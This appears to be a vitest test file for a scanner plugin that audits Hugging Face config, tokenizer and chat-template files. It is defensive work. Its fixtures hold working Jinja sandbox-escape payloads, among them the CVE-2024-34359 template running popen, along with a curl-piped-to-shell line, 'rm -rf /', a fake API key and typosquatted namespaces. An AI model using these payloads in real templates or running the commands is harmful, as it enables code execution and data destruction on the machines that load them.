import { AnalyzerTester, allFindings } from "@modelward/testing";
import { describe, expect, it } from "vitest";
import { POPULAR_CHAT_TEMPLATES } from "../../../packages/jinja-audit/src/popular-chat-templates.fixture.js";
import plugin from "./index.js";

const enc = (s: string) => new TextEncoder().encode(s);
const json = (v: unknown) => enc(JSON.stringify(v, null, 2));
const tester = new AnalyzerTester({ plugins: [plugin] });

// The CVE-2024-34359 template as the advisory quotes it (harmless command here).
const LLAMA_DRAMA =
  "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"echo pwned\").read()}}{%endif%}{% endfor %}";
const qwen = POPULAR_CHAT_TEMPLATES.find((t) => t.name.includes("Qwen2.5"))?.template ?? "";

tester.run("hf-config", {
  valid: [
    { name: "a plain config.json", path: "config.json", bytes: json({ architectures: ["BertModel"], hidden_size: 8, model_type: "bert", _name_or_path: "google-bert/bert-base-uncased" }) },
    { name: "a tokenizer_config.json with a real chat template", path: "tokenizer_config.json", bytes: json({ bos_token: "<s>", eos_token: "</s>", chat_template: qwen }) },
    {
      name: "named chat templates (list form)",
      path: "tokenizer_config.json",
      bytes: json({ chat_template: POPULAR_CHAT_TEMPLATES.filter((t) => /command-r/i.test(t.name)).map((t, i) => ({ name: i === 0 ? "default" : `tool_use_${i}`, template: t.template })) }),
    },
    { name: "generation_config.json", path: "generation_config.json", bytes: json({ bos_token_id: 1, eos_token_id: [2, 32000], do_sample: true, temperature: 0.6, transformers_version: "4.40.0" }) },
    { name: "a local _name_or_path is no claim", path: "config.json", bytes: json({ _name_or_path: "/home/me/ckpt/meta-lama", model_type: "llama" }) },
    { name: "the real organisations, any case", path: "config.json", bytes: json({ _name_or_path: "qwen/Qwen2-7B", base_model: "Meta-Llama/Llama-3.1-8B" }) },
    { name: "a YAML config with a plain chat template", path: "model_config.yaml", bytes: enc("model_name: test\nchat_template: \"{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\\n{% endfor %}\"\n") },
    { name: "a model card", path: "README.md", bytes: enc("---\nlicense: apache-2.0\nbase_model: mistralai/Mistral-7B-v0.1\ntags: [text-generation]\n---\n# Model\nSee https://example.com for details.\n") },
    { name: "a standalone template", path: "chat_template.jinja", bytes: enc(qwen) },
    { name: "a config with a documentation URL (low only)", path: "config.json", bytes: json({ model_type: "x", license_link: "https://example.com/LICENSE" }), below: "medium" },
  ],
  invalid: [
    {
      name: "CVE-2024-34359 in tokenizer_config.json chat_template",
      path: "tokenizer_config.json",
      bytes: json({ chat_template: LLAMA_DRAMA }),
      findings: [
        { ruleId: "hf/template-sandbox-escape", severity: "critical", message: /\/chat_template.*__subclasses__/ },
        { ruleId: "hf/template-unparsable", severity: "medium" },
      ],
    },
    {
      name: "a malicious named template among benign ones",
      path: "tokenizer_config.json",
      bytes: json({ chat_template: [{ name: "default", template: qwen }, { name: "rag", template: "{{ cycler.__init__.__globals__.os.popen('echo hi').read() }}" }] }),
      findings: [{ ruleId: "hf/template-sandbox-escape", severity: "critical", message: /\/chat_template\/1\/template/ }],
    },
    {
      name: "a second template key (custom_chat_template)",
      path: "tokenizer_config.json",
      bytes: json({ chat_template: "{{ messages[0]['content'] }}", custom_chat_template: "{{ self.__init__.__globals__['os'].system('echo evil') }}" }),
      findings: [{ ruleId: "hf/template-sandbox-escape", severity: "critical", message: /custom_chat_template/ }],
    },
    {
      name: "YAML config chat_template",
      path: "malicious_config.yaml",
      bytes: enc("chat_template: \"{{ config.__class__.__init__.__globals__['os'].system('echo hi') }}\"\ndeploy_script: \"{{ __import__('subprocess').call(['echo']) }}\"\n"),
      findings: [
        { ruleId: "hf/template-sandbox-escape", severity: "critical", message: /\/chat_template/ },
        { ruleId: "hf/template-code-name", severity: "high", message: /template-like value at \/deploy_script.*__import__/ },
      ],
    },
    {
      name: "standalone .j2 with an SSTI payload",
      path: "prompt.j2",
      bytes: enc("{{ lipsum.__globals__['os'].popen('echo hi').read() }}"),
      findings: [{ ruleId: "hf/template-sandbox-escape", severity: "critical" }],
    },
    {
      name: "auto_map: local modules (medium) and a module of another repository (high)",
      path: "config.json",
      bytes: json({
        model_type: "custom",
        auto_map: { AutoConfig: "configuration_custom.CustomConfig", AutoModelForCausalLM: "other-user/helpers--modeling_custom.CustomModel", AutoTokenizer: ["tokenization_custom.CustomTokenizer", null] },
      }),
      findings: [
        { ruleId: "hf/custom-code", severity: "medium", message: /configuration_custom\.py/ },
        { ruleId: "hf/custom-code", severity: "medium", message: /tokenization_custom\.py/ },
        { ruleId: "hf/remote-code-reference", severity: "high", message: /modeling_custom\.py.*other-user\/helpers/ },
      ],
    },
    {
      name: "custom pipeline implementation",
      path: "config.json",
      bytes: json({ custom_pipelines: { "text-classification": { impl: "pipes.sub.MyPipeline" } } }),
      findings: [{ ruleId: "hf/custom-code", message: /pipes\/sub\.py/ }],
    },
    {
      name: "typosquatted _name_or_path",
      path: "config.json",
      bytes: json({ _name_or_path: "meta-IIama/Llama-2-7b-hf", model_type: "llama" }),
      findings: [{ ruleId: "hf/namespace-typosquat", severity: "high", message: /imitates `meta-llama`/ }],
    },
    {
      name: "typosquatted base_model in a model card",
      path: "README.md",
      bytes: enc("---\nbase_model:\n- mistrali/Mistral-7B-v0.1\n---\n# x\n"),
      findings: [{ ruleId: "hf/namespace-typosquat", severity: "high", message: /imitates `mistralai`/ }],
    },
    {
      name: "a trust-word namespace",
      path: "config.json",
      bytes: json({ _name_or_path: "official/models-v2" }),
      findings: [{ ruleId: "hf/namespace-trust-claim", severity: "medium" }],
    },
    {
      name: "code, shell and credentials in config values",
      path: "config.json",
      bytes: json({ name: "m", config: { api_key: "sk-1234567890abcdefABCD", debug_command: "rm -rf /", post: "curl http://example.invalid/x.sh | sh", hook: "__import__('os').system('echo')" } }),
      findings: [
        { ruleId: "hf/code-in-value", severity: "high", message: /rm -rf/ },
        { ruleId: "hf/code-in-value", severity: "high", message: /download piped into a shell/ },
        { ruleId: "hf/code-in-value", severity: "high", message: /__import__/ },
        { ruleId: "hf/secret-in-value", severity: "medium" },
        { ruleId: "hf/url-in-value", severity: "low", message: /example\.invalid/ },
      ],
    },
    {
      name: "invalid JSON",
      path: "config.json",
      bytes: enc('{"model_type": "x",'),
      findings: [{ ruleId: "hf/malformed", severity: "medium" }],
    },
    {
      name: "invalid YAML",
      path: "train_config.yaml",
      bytes: enc("a: [1, 2\nb: {"),
      findings: [{ ruleId: "hf/malformed", severity: "medium" }],
    },
  ],
});

describe("hf metadata", () => {
  it("describes a transformers config for the inventory", async () => {
    const report = await tester.scan(
      "config.json",
      json({ architectures: ["LlamaForCausalLM"], model_type: "llama", torch_dtype: "bfloat16", _name_or_path: "meta-llama/Llama-3.1-8B", quantization_config: { quant_method: "awq" } }),
    );
    const file = report.files[0];
    expect(JSON.stringify(file)).toContain("LlamaForCausalLM");
    expect(JSON.stringify(file)).toContain("awq");
  });

  it("records the modules trust_remote_code would import", async () => {
    const report = await tester.scan("config.json", json({ auto_map: { AutoModel: "modeling_x.XModel" } }));
    expect(JSON.stringify(report.files[0])).toContain("modeling_x.py");
  });

  it("leaves JSON that is not a config alone", async () => {
    const report = await tester.scan("vocab.json", json({ hello: 1, "rm -rf /": 2 }));
    expect(allFindings(report)).toEqual([]);
  });

  it("a YAML alias bomb is malformed, not expanded", async () => {
    const lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"];
    for (let i = 0; i < 12; i++) lines.push(`${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}]`);
    lines.push("chat_template: x");
    const started = Date.now();
    const report = await tester.scan("bomb_config.yaml", enc(lines.join("\n") + "\n"));
    expect(allFindings(report).map((f) => f.ruleId)).toContain("hf/malformed");
    expect(Date.now() - started).toBeLessThan(20_000);
  });
});

describe("typosquat", () => {
  it("is silent on unrelated and real namespaces", async () => {
    const { typosquatOf } = await import("./major-orgs.js");
    for (const ns of ["meta-llama", "Qwen", "qwen", "owen", "TinyLlama", "bert-base", "microsoft", "someone", "openai-community", "gpt2"]) expect(typosquatOf(ns), ns).toBeUndefined();
    expect(typosquatOf("microsfot")?.org).toBe("microsoft");
    expect(typosquatOf("0penai")?.org).toBe("openai");
    expect(typosquatOf("deepseek_ai")?.org).toBe("deepseek-ai");
    expect(typosquatOf("goog1e")?.org).toBe("google");
  });
});

describe("auto_map modules against the scanned folder", () => {
  const config = json({ architectures: ["CustomModel"], auto_map: { AutoModel: "modeling_custom.CustomModel", AutoConfig: "pkg.configuration_custom.CustomConfig" } });
  const missing = (r: Awaited<ReturnType<typeof tester.scanTree>>) => allFindings(r).filter((f) => f.ruleId === "hf/custom-code-missing").map((f) => f.evidence.referenced);

  it("is silent about files that are beside the config", async () => {
    expect(missing(await tester.scanTree({ "m/config.json": config, "m/modeling_custom.py": enc("class CustomModel: pass\n"), "m/pkg/configuration_custom.py": enc("class CustomConfig: pass\n") }))).toEqual([]);
  });

  it("says when a module is not in the folder (transformers would fetch it from the Hub repository)", async () => {
    const r = await tester.scanTree({ "m/config.json": config, "m/modeling_custom.py": enc("class CustomModel: pass\n") });
    expect(missing(r)).toEqual(["m/pkg/configuration_custom.py"]);
    expect(allFindings(r).find((f) => f.ruleId === "hf/custom-code-missing")).toMatchObject({ severity: "medium", location: { jsonPointer: "/auto_map/AutoConfig" } });
  });

  it("a module the folder supplies, flat or in a package, is python/module-from-target on the config (issue 8.4), naming both files", async () => {
    const r = await tester.scanTree({ "m/config.json": config, "m/modeling_custom.py": enc("class CustomModel: pass\n"), "m/pkg/configuration_custom.py": enc("class CustomConfig: pass\n") });
    const hits = allFindings(r).filter((f) => f.ruleId === "python/module-from-target");
    expect(hits.map((f) => [f.location.path, f.severity, f.evidence.supplier]).sort()).toEqual([
      ["m/config.json", "high", "m/modeling_custom.py"],
      ["m/config.json", "high", "m/pkg/configuration_custom.py"],
    ]);
    const none = await tester.scanTree({ "m/config.json": config, "other/modeling_custom.py": enc("") });
    expect(allFindings(none).filter((f) => f.ruleId === "python/module-from-target")).toEqual([]);
  });

  it("judges nothing for a config scanned alone", async () => {
    expect(missing(await tester.scan("config.json", config))).toEqual([]);
  });
});
